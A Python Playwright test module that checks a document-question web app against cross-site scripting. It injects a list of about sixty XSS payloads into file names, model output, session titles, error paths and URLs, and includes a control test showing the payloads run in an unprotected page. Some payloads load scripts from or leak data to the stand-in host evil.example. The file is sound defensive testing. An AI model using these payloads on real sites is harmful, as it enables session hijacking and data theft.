"""Hostile text wherever text may come from: names, documents, prompts, outputs, answers. Nothing of it may come alive."""

from __future__ import annotations

import contextlib
import re
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page, Route, expect
from playwright.sync_api import TimeoutError as Late

from engine.kernel.host.host import KernelHost
from engine.llm.base import Request
from engine.llm.scripted import ScriptedModel
from tests.app.contexts import PATIENCE
from tests.app.desk import READY, Desk, ask
from tests.app.script import cell

pytestmark = [pytest.mark.browser, pytest.mark.sandbox]

EVIL = "https://evil.example"
PAYLOADS = [
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "</textarea><script>window.pwned=1</script>",
    "</title></style></pre></code><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src='https://evil.example/pixel.png'>",
    "<img/src='x'/onerror=window.pwned=1//",
    "<IMG SRC=x ONERROR=&#119;indow.pwned=1>",
    '"><img src=x onerror=window.pwned=1>',
    "' autofocus onfocus='window.pwned=1' x='",
    '" onmouseover="window.pwned=1" style="position:fixed;inset:0',
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.pwned=1>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.pwned=1&gt;'>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1></audio>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<iframe src='javascript:parent.pwned=1'></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data='javascript:window.pwned=1'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example><button>go on</button></form>",
    "<a href='javascript:window.pwned=1'>here</a>",
    "<template><img src=x onerror=window.pwned=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<div style='background:url(https://evil.example/b.png)'>x</div>",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "[here](javascript:window.pwned=1)",
    "[here](data:text/html,<script>window.pwned=1</script>)",
    "[here](https://evil.example/?q=secret)",
    "![picture](https://evil.example/pixel.png)",
    "![picture](javascript:window.pwned=1)",
    "<https://evil.example/auto>",
    "[ref]: javascript:window.pwned=1",
    "| <img src=x onerror=window.pwned=1> | b |",
    "```html\n<script>window.pwned=1</script>\n```",
    "`<img src=x onerror=window.pwned=1>`",
    "${window.pwned=1}",
    "${document.body.setAttribute(/data-pwned/.source,1)}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{{#each value}}<img src=x onerror=window.pwned=1>{{/each}}",
    "$$\\href{javascript:window.pwned=1}{x}$$",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "\u202egnp.exe \u2066<img src=x onerror=window.pwned=1>",
    "\x1b]8;;javascript:window.pwned=1\x1b\\here\x1b]8;;\x1b\\",
    "\x1b[31m<img src=x onerror=window.pwned=1>\x1b[0m",
    "__proto__",
    "constructor",
]
# Those of the first forty that come alive within an attribute, a template, Markdown or an older browser alone.
ELSEWHERE = {3, 11, 12, 16, 17, 34, 37, 39}
CONTROL = "https://control.example/"
QUESTION = "Which letters are hostile? " + " ".join(PAYLOADS[:14])
REPLIES = [
    # Prose, streams, rich outputs and the prompts of sub-calls.
    "I think: "
    + "\n\n".join(PAYLOADS)
    + "\n"
    + cell(
        f"payloads = {PAYLOADS!r}\n"
        "from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display\n"
        "import sys\n"
        "for p in payloads:\n"
        "    print(p)\n"
        "    display({'text/html': p, 'text/plain': p}, raw=True)\n"
        "    display({'text/markdown': p, 'text/latex': p, 'application/javascript': 'window.pwned=1', "
        "'image/svg+xml': f'<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.pwned=1\">{p}</svg>', "
        "'text/plain': p}, raw=True)\n"
        "display(HTML('<table><tr><td onclick=window.pwned=1>' + '</td><td>'.join(payloads) + '</td></tr></table>'))\n"
        "print(payloads, file=sys.stderr)\n"
        "said = llm_query_batched(['Leaf: ' + p for p in payloads[:20]])\n"
        "said"
    ),
    # An error whose type, message and source are hostile, and a child.
    cell(
        "told = rlm_query('Child: ' + ' '.join(payloads[20:40]), ' '.join(payloads))\n"
        "raise type('<img src=x onerror=window.pwned=1>', (Exception,), {})(' '.join(payloads))"
    ),
    cell(
        "FINAL('\\n\\n'.join(payloads), *context.search('pwned', 5), 'not there <img src=x onerror=window.pwned=1>')"
    ),
]
# Anything alive that only a payload can have made; ours have no such elements, handlers or addresses.
ALIVE = """() => {
  const found = [];
  const look = (root) => {
    for (const e of root.querySelectorAll("*")) {
      if (e.shadowRoot) look(e.shadowRoot);
      const handlers = [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name);
      if (handlers.length) found.push(`${e.tagName} with ${handlers}`);
      if (["IFRAME", "OBJECT", "EMBED", "MARQUEE", "MATH"].includes(e.tagName)) found.push(e.tagName);
      for (const name of ["href", "src", "action", "data", "xlink:href"]) {
        const to = e.getAttribute(name);
        if (to && (/^\\s*(javascript|vbscript):/i.test(to) || /^data:text/i.test(to) || /evil\\.example/.test(to))) found.push(`${e.tagName} ${name}=${to}`);
      }
      if (e.tagName === "SCRIPT" && /pwned|evil/.test(e.textContent + e.src)) found.push("SCRIPT");
      if (e.tagName === "STYLE" && /evil/.test(e.textContent)) found.push("STYLE");
      if (/evil/.test(e.getAttribute("style") ?? "")) found.push(`${e.tagName} style`);
    }
  };
  look(document);
  if (document.body.dataset.pwned || ({}).pwned) found.push("data-pwned");
  return { pwned: window.pwned ?? null, found, title: document.title };
}"""


def reply(request: Request) -> str:
    """What the scripted model says: the replies in order to the root, hostile words to all others."""
    asked = next(m.content for m in request.messages if m.role == "user")
    if asked.startswith("Leaf: "):
        return asked.removeprefix("Leaf: ")
    if "Child: " in asked and QUESTION[:20] not in asked:
        return cell("FINAL(' '.join([str(context)[:400]]))")
    return REPLIES[min(sum(m.role == "assistant" for m in request.messages), len(REPLIES) - 1)]


def file_name(number: int, payload: str) -> str:
    """A name that a file system takes and that keeps what is hostile about a payload."""
    text = re.sub(r"[/\x00-\x1f]", "\u2215", payload)
    return f"{number:02} {text.encode()[:180].decode(errors='ignore')}.txt"


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory, kernels: KernelHost) -> Iterator[Desk]:
    """An app whose documents, model and model's name are hostile."""
    data = tmp_path_factory.mktemp("xss") / "data"
    data.mkdir(mode=0o700)
    desk = Desk(data, kernels)
    desk.model = ScriptedModel(reply, name=" ".join(PAYLOADS[:8]), n_ctx=200_000, delta_chars=400)  # type: ignore[assignment]
    desk.workbench.engine.use(desk.model)
    desk.hostile = desk.add(  # type: ignore[attr-defined]
        "Hostile <img src=x onerror=window.pwned=1>",
        {
            **{file_name(i, p): f"{p}\nin a document\n" for i, p in enumerate(PAYLOADS)},
            "all.txt": "\n".join(PAYLOADS) + "\n",
        },
    )
    yield desk
    desk.close()


@pytest.fixture
def page(desk: Desk, browser: Browser) -> Iterator[Page]:
    """A page that may not complain, ask another host or open a dialog."""
    page = desk.visit(browser)
    page.refused = ()  # type: ignore[attr-defined]  # statuses that a test asks for; the browser tells of each
    page.on("dialog", lambda dialog: (page.problems.append(f"dialog: {dialog.message}"), dialog.dismiss()))  # type: ignore[attr-defined]
    page.context.on("page", lambda other: page.problems.append(f"window: {other.url}"))  # type: ignore[attr-defined]
    yield page
    page.context.close()
    expected = tuple(f"status of {status}" for status in page.refused)  # type: ignore[attr-defined]
    assert [one for one in page.problems if not any(words in one for words in expected)] == []  # type: ignore[attr-defined]


def dead(page: Page) -> None:
    """Nothing came alive."""
    state = page.evaluate(ALIVE)
    assert state["pwned"] is None and state["found"] == []


def test_there_are_enough_payloads_and_they_would_work() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40


def test_the_payloads_do_come_alive_where_nothing_stops_them(browser: Browser) -> None:
    """The control: the same words as markup in a page without our rules set the mark and are found by the same look."""
    page = browser.new_page()
    page.set_default_timeout(PATIENCE)

    def answer(route: Route) -> None:
        asked = route.request.url
        here = asked.startswith(CONTROL) and asked.removeprefix(CONTROL).isdigit()
        body = f"<title>x</title><body>{PAYLOADS[int(asked.removeprefix(CONTROL))]}</body>" if here else ""
        route.fulfill(body=body, content_type="text/html" if here else "text/plain")

    page.route("**/*", answer)
    alive = 0
    for number in sorted({*range(40)} - ELSEWHERE):
        page.goto(f"{CONTROL}{number}", wait_until="commit")  # a window of its own, without the mark
        look = f"() => {{ const s = ({ALIVE})(); return s.pwned || s.found.length || !location.href.startsWith('{CONTROL}'); }}"
        with contextlib.suppress(Late):
            page.wait_for_function(look)
            alive += 1
    page.close()
    assert alive >= 30


def test_a_hostile_run_stays_text_from_the_question_to_the_answer(desk: Desk, page: Page) -> None:
    page.evaluate("localStorage.clear()")
    page.locator("#corpus input").click()
    dead(page)
    page.get_by_role("option", name=re.compile("Hostile")).click()
    dead(page)
    run = ask(page, QUESTION)
    desk.ended(run)
    row = desk.workbench.engine.store.run(run)
    assert row["status"] == "answered", row
    answer = page.locator(".answer-text")
    expect(answer).to_contain_text("constructor.constructor")
    dead(page)
    tree = page.locator("rlm-tree")
    expect(tree.locator(".row").first).to_contain_text("Which letters are hostile?")
    for number in range(tree.locator(".row").count()):
        tree.locator(".row").nth(number).click()
        expect(tree.locator(".detail")).not_to_be_empty()
        for fold in tree.locator(".detail summary").all()[:12]:
            fold.click()
        dead(page)
    for chip in answer.locator("button.cite").all()[:2]:
        chip.click()
        expect(page.locator("#viewer")).to_be_visible()
        dead(page)
        page.keyboard.press("Escape")
    page.reload()
    page.wait_for_selector(READY)
    expect(answer).to_contain_text("constructor.constructor")
    dead(page)
    page.locator("rlm-tree input[type=range]").first.fill("5")
    dead(page)


def test_hostile_names_and_documents_stay_text_in_the_library(desk: Desk, page: Page) -> None:
    page.evaluate(
        """async ([corpus, name]) => fetch(`/api/corpora/${corpus}`, { method: "PATCH",
          headers: { "content-type": "application/json" }, body: JSON.stringify({ name }) })""",
        [desk.hostile, " ".join(PAYLOADS[:6])[:180]],  # type: ignore[attr-defined]
    )
    page.click("#nav-library")
    card = page.locator(".corpus", has_text="window.pwned")
    expect(card.first).to_be_visible()
    dead(page)
    card.first.get_by_role("button", name="Documents").click()
    expect(page.locator("#library-host")).to_contain_text("<img src=x onerror=window.pwned=1>.txt")
    dead(page)
    page.get_by_role("searchbox", name="Filter documents by name").fill("all.txt")
    page.locator("#library-host").get_by_text("all.txt").first.click()
    viewer = page.locator("#viewer")
    expect(viewer).to_contain_text("<script>window.pwned=1</script>")
    dead(page)
    for payload in PAYLOADS[:: len(PAYLOADS) // 8]:
        found = page.evaluate(
            "async ([c, q]) => (await fetch(`/api/corpora/${c}/search?q=${encodeURIComponent(q)}`)).status",
            [desk.hostile, payload],  # type: ignore[attr-defined]
        )
        assert found < 500
    page.keyboard.press("Escape")
    page.click("#nav-ask")
    page.locator("#corpus input").click()
    dead(page)


def test_hostile_titles_and_searches_stay_text_in_the_sessions(desk: Desk, page: Page) -> None:
    started = desk.workbench.runs.start(QUESTION, desk.corpus)
    desk.ended(started.run)
    session = started.session
    page.click("#nav-sessions")
    for payload in PAYLOADS:
        status = page.evaluate(
            """async ([id, title]) => (await fetch(`/api/sessions/${id}`, { method: "PATCH",
              headers: { "content-type": "application/json" }, body: JSON.stringify({ title }) })).status""",
            [session, payload],
        )
        assert status == 200, payload
    title = "Renamed " + " ".join(PAYLOADS[:5])
    desk.workbench.sessions.rename(session, title[:200])
    expect(page.locator("#sessions-host")).to_contain_text("Renamed <script>")
    dead(page)
    page.locator("#sessions-host input").first.fill("<img src=x onerror=window.pwned=1>")
    expect(page.locator("#sessions-host")).to_contain_text("onerror")
    dead(page)


def test_hostile_words_in_errors_of_the_server_stay_text(page: Page) -> None:
    """What was sent comes back in sentences: as JSON that no browser takes for a page, shown as text."""
    page.refused = (404,)  # type: ignore[attr-defined]
    for path in (
        "/api/runs/%3Cimg%20src=x%20onerror=window.pwned=1%3E/log",
        "/api/%3Cscript%3E",
        "/%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    ):
        status, kind, policy = page.evaluate(
            "async (p) => { const r = await fetch(p); return [r.status, r.headers.get('content-type'), r.headers.get('content-security-policy')]; }",
            path,
        )
        assert (status >= 400 and "html" not in kind) or "script-src 'self' 'nonce-" in policy, path
    page.evaluate(
        """async (payloads) => {
          document.querySelector("#toasts").remove();
          const toast = (await import("/ui/shell/toasts.js")).createToasts();
          for (const p of payloads) toast(p, "error");
        }""",
        PAYLOADS,
    )
    dead(page)


def test_a_hostile_address_stays_text(desk: Desk, page: Page) -> None:
    page.refused = (400, 404)  # type: ignore[attr-defined]
    for payload in PAYLOADS[:: len(PAYLOADS) // 3]:
        query = "&".join(f"{name}={quote(payload)}" for name in ("run", "node", "corpus", "document"))
        for view in ("ask", "library"):
            page.goto(f"http://127.0.0.1:{desk.port}/?view={view}&{query}")
            page.wait_for_selector(READY)
            dead(page)
